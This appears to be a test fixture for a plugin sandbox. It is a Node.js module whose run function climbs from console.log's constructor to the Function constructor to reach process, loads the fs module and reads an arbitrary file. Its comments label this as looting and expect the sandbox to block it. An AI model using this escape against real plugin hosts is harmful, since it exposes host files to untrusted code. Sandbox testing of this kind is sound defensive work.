// process.getBuiltinModule gives the file system.
// guard: a guest imports nothing
// harm: loot
// control: node
// says: process is not defined
module.exports = {
  metadata: { name: 'built-in-module', cache: 0, match: { contextType: 'github', context: { 'page.attack': { equals: 'built-in-module' } } } },
  run(context) {
    const fs = console.log.constructor('return process')().getBuiltinModule('node:fs');
    return { type: 'text', content: fs.readFileSync(context.page.file, 'utf8') };
  },
};
